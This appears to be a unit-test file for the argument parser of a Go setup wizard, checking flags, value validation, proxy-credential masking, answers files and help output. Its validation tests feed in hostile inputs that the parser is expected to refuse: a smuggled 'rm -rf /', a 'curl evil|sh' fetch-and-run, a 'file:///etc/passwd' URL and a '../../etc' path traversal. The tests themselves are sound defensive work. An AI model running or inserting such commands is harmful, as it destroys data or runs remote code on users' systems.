// Unit tests of the command-line parser: argv + env → CommandContext, or one UserError line.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import stringWidth from 'string-width';
import { saveAnswers } from '../../src/options/answers.js';
import { parseCommandLine, type CliInvocation } from '../../src/cli/args.js';
import { ANSWER_KEYS, COMMANDS, DEFAULT_OPTIONS, FLAGS, GLOBAL_FLAGS, type FlagName } from '../../src/cli/flags.js';
import { renderHelp } from '../../src/cli/help.js';
import { UserError } from '../../src/errors.js';
import { allMessages, createTranslator, loadLang } from '../../src/i18n/index.js';
import { redact } from '../../src/redact.js';
import type { Output, Translate } from '../../src/types.js';

await loadLang('zh');

let dir: string;
let home: string;
let cwd: string;
let env: NodeJS.ProcessEnv;
let archive: string;

const quiet = (isTTY: boolean): Output => ({ write: () => undefined, isTTY });

function parse(argv: string[], options: { tty?: boolean; env?: NodeJS.ProcessEnv } = {}): CliInvocation | UserError {
  const tty = options.tty ?? false;
  return parseCommandLine(argv, { ...env, ...options.env }, { stdout: quiet(tty), stderr: quiet(tty), stdinIsTTY: tty, cwd });
}

function ok(argv: string[], options?: { tty?: boolean; env?: NodeJS.ProcessEnv }): CliInvocation {
  const result = parse(argv, options);
  if (result instanceof UserError) assert.fail(`expected ${JSON.stringify(argv)} to parse, got: ${result.message}`);
  return result;
}

function refused(argv: string[], ...needles: string[]): string {
  const result = parse(argv);
  assert.ok(result instanceof UserError, `expected ${JSON.stringify(argv)} to be refused`);
  assert.equal(result.exitCode, 2);
  assert.doesNotMatch(result.message, /\n/);
  for (const needle of needles) assert.ok(result.message.includes(needle), `${JSON.stringify(result.message)} should mention ${needle}`);
  return result.message;
}

function writeConfig(name: string, content: unknown): string {
  const path = join(cwd, name);
  writeFileSync(path, typeof content === 'string' ? content : JSON.stringify(content));
  return path;
}

before(() => {
  dir = mkdtempSync(join(tmpdir(), 'gsw-args-'));
  home = join(dir, 'home');
  cwd = join(dir, 'work');
  mkdirSync(home);
  mkdirSync(cwd);
  env = { HOME: home, LANG: 'C.UTF-8', XDG_CONFIG_HOME: join(dir, 'config'), XDG_STATE_HOME: join(dir, 'state') };
  archive = join(cwd, 'go1.27.1.linux-amd64.tar.gz');
  writeFileSync(archive, 'not really a tarball; only its name and existence are checked here');
});
after(() => rmSync(dir, { recursive: true, force: true }));

describe('commands and defaults', () => {
  it('gives the SPEC defaults and lists nothing as explicit', () => {
    const ctx = ok(['plan']);
    assert.equal(ctx.command, 'plan');
    assert.deepEqual(ctx.options, DEFAULT_OPTIONS);
    assert.equal(ctx.options.scope, undefined);
    assert.equal(ctx.options.gopath, undefined);
    assert.deepEqual(ctx.explicit, []);
    assert.deepEqual(ctx.flags, { json: false, yes: false, all: false, list: false, forceUnlock: false, runId: undefined, format: 'text', config: undefined, saveConfig: undefined });
    assert.equal(ctx.lang, 'en');
    assert.equal(ctx.paths.stateDir, join(dir, 'state', 'go-setup-wizard'));
  });

  it('runs the wizard when no command is given, on a terminal', () => {
    assert.equal(ok([], { tty: true }).command, 'wizard');
    assert.equal(ok(['--scope', 'user'], { tty: true }).options.scope, 'user');
  });

  it('refuses the wizard without a terminal and points at install --yes', () => {
    refused([], 'install --yes');
    refused(['--method', 'apt'], 'install --yes');
  });

  it('refuses unknown commands and extra words', () => {
    refused(['instal'], '"instal"', 'install');
    refused(['plan', 'now'], '"now"');
  });

  it('reads --help, -h, --version and -V on any command', () => {
    assert.equal(ok(['--help']).command, 'help');
    assert.equal(ok(['--help']).helpTopic, undefined);
    const topic = ok(['plan', '-h']);
    assert.equal(topic.command, 'help');
    assert.equal(topic.helpTopic, 'plan');
    assert.equal(ok(['--version']).command, 'version');
    assert.equal(ok(['detect', '-V']).command, 'version');
    // Help needs no terminal, even for the wizard.
    assert.equal(ok(['-h'], { tty: false }).command, 'help');
  });
});

describe('flag syntax', () => {
  it('takes --flag value and --flag=value alike', () => {
    const spaced = ok(['install', '--go-version', '1.27', '--mirror', 'google-cn']);
    const joined = ok(['install', '--go-version=1.27', '--mirror=google-cn']);
    assert.deepEqual(spaced.options, joined.options);
    assert.deepEqual(spaced.explicit, ['goVersion', 'mirror']);
  });

  it('reads --no-proxy as NO_PROXY, not as a negation', () => {
    const ctx = ok(['install', '--no-proxy', 'localhost, 127.0.0.1,.corp.example.com', '--yes']);
    assert.equal(ctx.options.noProxy, 'localhost,127.0.0.1,.corp.example.com');
    assert.equal(ctx.flags.yes, true);
    refused(['install', '--no-proxy'], '--no-proxy');
  });

  it('reads boolean flags and refuses a value for them', () => {
    const ctx = ok(['install', '--yes', '--json', '--persist-proxy']);
    assert.equal(ctx.flags.yes, true);
    assert.equal(ctx.flags.json, true);
    assert.equal(ctx.options.persistProxy, true);
    assert.deepEqual(ctx.explicit, ['persistProxy']);
    refused(['install', '--yes=please'], '--yes', '"please"');
  });

  it('never takes the next flag as a value', () => {
    refused(['install', '--mirror', '--yes'], '--mirror', 'official');
    refused(['install', '--method='], '--method');
  });

  it('refuses unknown flags, flags of other commands and repeated flags', () => {
    refused(['install', '--bogus'], '"--bogus"', '--method');
    refused(['install', '-x'], '"-x"');
    refused(['detect', '--method', 'apt'], '--method', 'detect', '--json', '--sysroot');
    refused(['prune', '--json'], '--json', 'prune');
    refused(['plan', '--yes'], '--yes', 'plan');
    refused(['install', '--scope', 'user', '--scope=system'], '--scope');
  });

  it('accepts each command’s own flags', () => {
    assert.equal(ok(['detect', '--json', '--sysroot', cwd]).options.sysroot, cwd);
    assert.equal(ok(['versions', '--all', '--json', '--index-url', 'http://127.0.0.1:8080/dl/?mode=json']).flags.all, true);
    const rollback = ok(['rollback', '--list', '--run', '20261122-051203-ab12', '--yes', '--json']);
    assert.equal(rollback.flags.runId, '20261122-051203-ab12');
    assert.equal(rollback.flags.list, true);
    assert.equal(ok(['plan', '--format', 'ansible']).flags.format, 'ansible');
    assert.equal(ok(['doctor', '--json', '--lang', 'zh']).lang, 'zh');
  });

  it('versions takes the network options its index is read with (mirror, proxies); doctor refuses the proxies with its reason', () => {
    const versions = ok(['versions', '--mirror', 'google-cn', '--http-proxy', 'http://proxy.corp:3128', '--https-proxy', 'socks5h://127.0.0.1:7890', '--no-proxy', 'localhost']);
    assert.equal(versions.options.mirror, 'google-cn');
    assert.equal(versions.options.noProxy, 'localhost');
    assert.ok(versions.options.httpProxy?.startsWith('http://proxy.corp:3128'));
    assert.ok(versions.options.httpsProxy?.startsWith('socks5h://127.0.0.1:7890'));
    refused(['doctor', '--http-proxy', 'http://127.0.0.1:3128'], '--http-proxy', 'doctor', 'environment');
    refused(['doctor', '--no-proxy', 'localhost'], '--no-proxy', 'doctor');
  });
});

describe('values', () => {
  const accepts = (flag: string, raw: string, expected: unknown) => {
    const ctx = ok(['install', `--${flag}`, raw]);
    const [key] = [...ANSWER_KEYS].find(([, name]) => name === flag)!;
    assert.deepEqual(ctx.options[key], expected, `--${flag} ${raw}`);
  };

  it('checks Go versions and drops a leading go', () => {
    accepts('go-version', 'latest', 'latest');
    accepts('go-version', '1.27', '1.27');
    accepts('go-version', '1.27.1', '1.27.1');
    accepts('go-version', 'go1.27.1', '1.27.1');
    for (const bad of ['1', '2.0', '1.27.1.1', 'go', 'v1.27', '1.27rc1', ' 1.27', 'stable']) refused(['install', '--go-version', bad], JSON.stringify(bad));
  });

  it('checks methods, scopes, formats and languages against their lists', () => {
    accepts('method', 'apt', 'apt');
    accepts('scope', 'system', 'system');
    refused(['install', '--method', 'brew'], '"brew"', 'tarball, apt or snap');
    refused(['install', '--scope', 'global'], '"global"', 'system or user');
    refused(['plan', '--format', 'yaml'], '"yaml"', 'ansible');
    refused(['install', '--lang', 'fr'], '"fr"', 'en or zh');
  });

  it('expands ~/ and refuses relative, root and multi-line locations', () => {
    accepts('install-dir', '~/sdk/go', join(home, 'sdk/go'));
    accepts('gopath', '/srv/go/../gopath/', '/srv/gopath');
    refused(['install', '--install-dir', 'relative/go'], '"relative/go"');
    refused(['install', '--install-dir', '/'], '"/"');
    refused(['install', '--install-dir', '/opt/go\nrm -rf /'], '"/opt/go\\nrm -rf /"');
    refused(['install', '--gopath', '~other/go'], '"~other/go"');
    refused(['install', '--gopath', '/tmp/a\0b'], '--gopath');
  });

  it('takes mirror presets or http(s) base URLs ending in /', () => {
    accepts('mirror', 'auto', 'auto');
    accepts('mirror', 'http://127.0.0.1:8080/golang/', 'http://127.0.0.1:8080/golang/');
    refused(['install', '--mirror', 'https://mirror.example/golang'], '"https://mirror.example/golang"', 'ending in /');
    refused(['install', '--mirror', 'ftp://mirror.example/golang/'], '"ftp://mirror.example/golang/"');
    refused(['install', '--mirror', 'tsinghua'], '"tsinghua"');
    refused(['versions', '--index-url', 'file:///etc/passwd'], '"file:///etc/passwd"');
    refused(['versions', '--index-url', 'https://'], '"https://"');
  });

  it('checks --archive: an existing go*.linux-*.tar.gz, resolved against the working directory', () => {
    accepts('archive', 'go1.27.1.linux-amd64.tar.gz', archive);
    const notes = join(cwd, 'notes.tar.gz');
    writeFileSync(notes, '');
    refused(['install', '--archive', notes], JSON.stringify(notes), 'go*.linux-*.tar.gz');
    refused(['install', '--archive', join(cwd, 'go1.26.0.linux-amd64.tar.gz')], 'go1.26.0');
    refused(['install', '--archive', cwd], '--archive');
    refused(['install', '--archive', archive, '--method', 'apt'], '"apt"', '--method tarball');
  });

  it('checks sha256 digests and lower-cases them', () => {
    accepts('sha256', 'AB'.repeat(32), 'ab'.repeat(32));
    refused(['install', '--sha256', 'abc123'], '"abc123"', '64 hexadecimal');
    refused(['install', '--sha256', 'g'.repeat(64)], '--sha256');
  });

  it('takes GOPROXY presets and lists, GOSUMDB and GOPRIVATE values', () => {
    accepts('goproxy', 'goproxy.cn', 'goproxy.cn');
    accepts('goproxy', 'https://goproxy.cn,direct', 'https://goproxy.cn,direct');
    accepts('goproxy', 'https://a.example|https://b.example,off', 'https://a.example|https://b.example,off');
    accepts('goproxy', 'proxy.corp.example,direct', 'proxy.corp.example,direct');
    refused(['install', '--goproxy', 'ftp://proxy.example'], '"ftp://proxy.example"');
    refused(['install', '--goproxy', 'https://goproxy.cn,,direct'], '--goproxy');
    refused(['install', '--goproxy', 'https://goproxy.cn;curl evil|sh'], '--goproxy');
    accepts('gosumdb', 'off', 'off');
    accepts('gosumdb', 'sum.golang.google.cn', 'sum.golang.google.cn');
    accepts('gosumdb', 'sum.golang.org+033de0ae+Ac4zctda0e5eza+HJyk9SxEdh+s3Ux18htTTAD8OuAn8 https://sum.golang.org', 'sum.golang.org+033de0ae+Ac4zctda0e5eza+HJyk9SxEdh+s3Ux18htTTAD8OuAn8 https://sum.golang.org');
    refused(['install', '--gosumdb', 'sum golang org'], '"sum golang org"');
    accepts('goprivate', '*.corp.example.com,github.com/org', '*.corp.example.com,github.com/org');
    refused(['install', '--goprivate', 'a b'], '"a b"');
  });

  it('takes comma lists of shells, without duplicates', () => {
    accepts('shells', 'zsh,bash,zsh', ['zsh', 'bash']);
    accepts('shells', 'none', 'none');
    refused(['install', '--shells', 'bash,tcsh'], '"bash,tcsh"', 'bash, zsh and fish');
    refused(['install', '--shells', ''], '--shells');
  });

  it('takes http(s) proxies, encodes odd characters in the password so redact() can mask it', () => {
    accepts('http-proxy', 'http://proxy.corp:3128', 'http://proxy.corp:3128/');
    const ctx = ok(['install', '--https-proxy', "http://ann:pa$ 'ss word@proxy.corp:3128"]);
    assert.equal(ctx.options.httpsProxy, "http://ann:pa$%20'ss%20word@proxy.corp:3128/");
    assert.equal(redact(ctx.options.httpsProxy!), 'http://****@proxy.corp:3128/');
    assert.equal(new URL(ctx.options.httpsProxy!).password, "pa$%20'ss%20word");
  });

  it('masks credentials in refused proxy URLs, even with spaces and quotes', () => {
    const message = refused(['install', '--http-proxy', "ftp://ann:pa$ 'ss word@proxy:1080"], '"ftp://****@proxy:1080"');
    assert.doesNotMatch(message, /pa\$|ss word|ann/);
    const noHost = refused(['install', '--https-proxy', "http://ann:pa$ 'ss@"], '****');
    assert.doesNotMatch(noHost, /pa\$|ann/);
  });

  it('checks sysroot, run ids and save-config targets', () => {
    refused(['detect', '--sysroot', join(dir, 'missing')], 'missing');
    refused(['rollback', '--run', '../../etc'], '"../../etc"');
    refused(['install', '--save-config', join(dir, 'missing', 'a.json')], 'missing');
    refused(['install', '--save-config', cwd], '--save-config');
    assert.equal(ok(['install', '--save-config', 'answers.json']).flags.saveConfig, join(cwd, 'answers.json'));
  });
});

describe('language', () => {
  it('follows LC_ALL / LANG unless --lang is given', () => {
    assert.equal(ok(['plan'], { env: { LANG: 'zh_CN.UTF-8' } }).lang, 'zh');
    assert.equal(ok(['plan', '--lang', 'en'], { env: { LC_ALL: 'zh_TW.UTF-8' } }).lang, 'en');
    assert.equal(ok(['plan', '--lang=zh']).options.lang, 'zh');
  });

  it('writes errors in the chosen language, wherever --lang stands', () => {
    const zh = refused(['install', '--scope', 'global', '--lang', 'zh'], '"global"');
    assert.match(zh, /不接受/);
    const fromEnv = parse(['install', '--bogus'], { env: { LANG: 'zh_CN.UTF-8' } });
    assert.ok(fromEnv instanceof UserError && /没有选项/.test(fromEnv.message));
  });
});

describe('answers file (--config)', () => {
  it('fills in options; the command line wins; both count as explicit', () => {
    const path = writeConfig('class.json', { goVersion: '1.27', scope: 'user', shells: ['bash', 'zsh'], persistProxy: true, archive: 'go1.27.1.linux-amd64.tar.gz', lang: 'zh' });
    const ctx = ok(['install', '--config', path, '--scope', 'system', '--mirror', 'ustc']);
    assert.equal(ctx.options.goVersion, '1.27');
    assert.equal(ctx.options.scope, 'system');
    assert.equal(ctx.options.mirror, 'ustc');
    assert.deepEqual(ctx.options.shells, ['bash', 'zsh']);
    assert.equal(ctx.options.persistProxy, true);
    // Relative paths in the file are relative to the file.
    assert.equal(ctx.options.archive, archive);
    assert.equal(ctx.lang, 'zh');
    assert.deepEqual(new Set(ctx.explicit), new Set(['goVersion', 'scope', 'mirror', 'shells', 'persistProxy', 'archive', 'lang']));
    assert.equal(ctx.flags.config, path);
  });

  it('refuses unknown keys, wrong types, bad values, bad JSON and non-objects', () => {
    refused(['install', '--config', writeConfig('unknown.json', { goversion: '1.27' })], '"goversion"', 'goVersion');
    refused(['install', '--config', writeConfig('flagname.json', { 'go-version': '1.27' })], '"go-version"');
    refused(['install', '--config', writeConfig('type.json', { goVersion: 127 })], 'goVersion', 'a string', '127');
    refused(['install', '--config', writeConfig('bool.json', { persistProxy: 'yes' })], 'persistProxy', 'true or false');
    refused(['install', '--config', writeConfig('shells.json', { shells: ['bash', 'csh'] })], 'shells', 'csh');
    refused(['install', '--config', writeConfig('empty-value.json', { mirror: '' })], 'mirror');
    refused(['install', '--config', writeConfig('json.json', '{\n  "goVersion": "1.27",\n  oops\n}')], 'line 3, column 3');
    refused(['install', '--config', writeConfig('empty.json', '')], 'not valid JSON');
    refused(['install', '--config', writeConfig('array.json', [{ goVersion: '1.27' }])], 'JSON object');
    refused(['install', '--config', join(cwd, 'absent.json')], 'absent.json');
  });

  it('masks credentials of refused proxy values in the file', () => {
    const message = refused(['install', '--config', writeConfig('proxy.json', { httpProxy: "ftp://ann:s3cr$t 'x@proxy:1080" })], '****');
    assert.doesNotMatch(message, /s3cr/);
  });
});

describe('saveAnswers', () => {
  it('writes exactly the explicit answers, which --config reads back to the same options', () => {
    const first = ok(['install', '--go-version', 'go1.27.1', '--shells', 'bash,fish', '--install-dir', '~/go-sdk', '--persist-proxy']);
    const path = join(cwd, 'saved.json');
    saveAnswers(path, first.options, first.explicit);
    assert.deepEqual(JSON.parse(readFileSync(path, 'utf8')), { goVersion: '1.27.1', installDir: join(home, 'go-sdk'), persistProxy: true, shells: ['bash', 'fish'] });
    assert.equal(statSync(path).mode & 0o777, 0o644);
    const again = ok(['install', '--config', path]);
    assert.deepEqual(again.options, first.options);
    assert.deepEqual(new Set(again.explicit), new Set(first.explicit));
  });

  it('makes the file private (0600) when it holds proxy credentials, also when replacing a readable file', () => {
    const path = join(cwd, 'secret.json');
    writeFileSync(path, '{}', { mode: 0o644 });
    const ctx = ok(['install', '--https-proxy', "http://ann:pa$ 'ss@proxy.corp:3128"]);
    saveAnswers(path, ctx.options, ctx.explicit);
    assert.equal(statSync(path).mode & 0o777, 0o600);
    assert.equal(ok(['install', '--config', path]).options.httpsProxy, ctx.options.httpsProxy);
  });
});

describe('the tables behind --help', () => {
  const en = allMessages('en');

  it('gives every flag to some command, a help line, and for valued flags what they accept', () => {
    const used = new Set([...Object.values(COMMANDS).flat(), ...GLOBAL_FLAGS]);
    for (const name of Object.keys(FLAGS) as FlagName[]) {
      assert.ok(used.has(name), `--${name} belongs to no command`);
      assert.ok(en[`cli.flag.${name}`], `cli.flag.${name} missing`);
      if ('parse' in FLAGS[name]) assert.ok(en[`cli.accept.${name}`], `cli.accept.${name} missing`);
    }
    for (const command of Object.keys(COMMANDS)) assert.ok(en[`cli.command.${command}`]);
  });

  it('every cli.* key named in src/cli exists in the catalog', () => {
    for (const file of ['args.ts', 'answers.ts', 'help.ts', 'main.ts', 'flags.ts']) {
      const text = readFileSync(new URL(`../../src/cli/${file}`, import.meta.url), 'utf8');
      for (const [key] of text.matchAll(/(?<=')cli\.[A-Za-z]+\.[A-Za-z]+(?=')/g)) assert.ok(en[key], `${file}: ${key} missing`);
    }
  });

  it('lists every command and flag in the overview, and only the command’s flags in its own help', async () => {
    for (const lang of ['en', 'zh'] as const) {
      const text = await renderHelp(createTranslator(lang), '9.9.9');
      for (const name of Object.keys(FLAGS)) assert.ok(text.includes(`--${name}`), `${lang}: --${name}`);
      for (const command of Object.keys(COMMANDS).filter((c) => c !== 'wizard')) assert.match(text, new RegExp(`^  ${command} `, 'm'));
      assert.ok(text.includes('--save-config classroom.json') && text.includes('--mirror google-cn') && text.includes('plan --format sh'));
    }
    const detect = await renderHelp(createTranslator('en'), '9.9.9', 'detect');
    const listed = [...detect.matchAll(/--([a-z0-9-]+)/g)].map((m) => m[1]);
    assert.deepEqual(new Set(listed), new Set(['json', 'sysroot', 'lang', 'help', 'version']));
  });

  it('aligns the descriptions by display width: Chinese, and a cell only string-width measures (emoji)', async () => {
    const en = createTranslator('en');
    const withEmoji: Translate = (key, vars) => (key === 'cli.help.noCommand' ? '👨\u200d👩\u200d👧 (none)' : en(key, vars));
    for (const [label, t] of [['en', en], ['zh', createTranslator('zh')], ['emoji', withEmoji]] as const) {
      const lines = (await renderHelp(t, '9.9.9')).split('\n');
      const columns = Object.keys(COMMANDS).map((command) => {
        const description = t(`cli.command.${command}`);
        const line = lines.find((candidate) => candidate.endsWith(`  ${description}`));
        assert.ok(line, `${label}: ${command}`);
        return stringWidth(line.slice(0, -description.length));
      });
      assert.equal(new Set(columns).size, 1, `${label}: descriptions start at columns ${columns.join(', ')}`);
    }
  });
});
